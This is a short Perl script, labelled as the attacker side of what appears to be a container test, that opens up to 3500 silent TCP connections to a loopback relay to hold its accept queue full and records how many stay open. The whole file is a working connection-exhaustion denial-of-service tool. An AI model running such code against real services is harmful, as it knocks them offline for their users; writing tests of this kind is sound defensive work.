# Attacker (--net host): hold a sibling's loopback relay's accept queue full of silent connections.
use strict; use IO::Socket::INET; use IO::Select;
my ($portfile, $out) = @ARGV;
my $port; my @s; my $opened = 0;
while (1) {
  if (!$port) { if (open(my $f, '<', $portfile)) { $port = <$f>; chomp $port; close $f; } else { select(undef,undef,undef,0.2); next; } }
  for (1..100) {
    last if @s >= 3500;
    my $c = IO::Socket::INET->new(PeerAddr => "127.0.0.1", PeerPort => $port, Blocking => 0, Proto => 'tcp');
    if ($c) { push @s, $c; $opened++; }
  }
  my $sel = IO::Select->new(@s);
  my %dead;
  for my $h ($sel->can_read(0)) { my $b; my $n = sysread($h, $b, 65536); if (defined $n && $n == 0) { $dead{fileno($h) // -1} = 1; close $h; } elsif (!defined $n && !$!{EAGAIN}) { close $h; } }
  @s = grep { defined fileno($_) } @s;
  if (open(my $o, '>', $out)) { print $o "$opened ".scalar(@s)."\n"; close $o; }
  select(undef, undef, undef, 0.02);
}
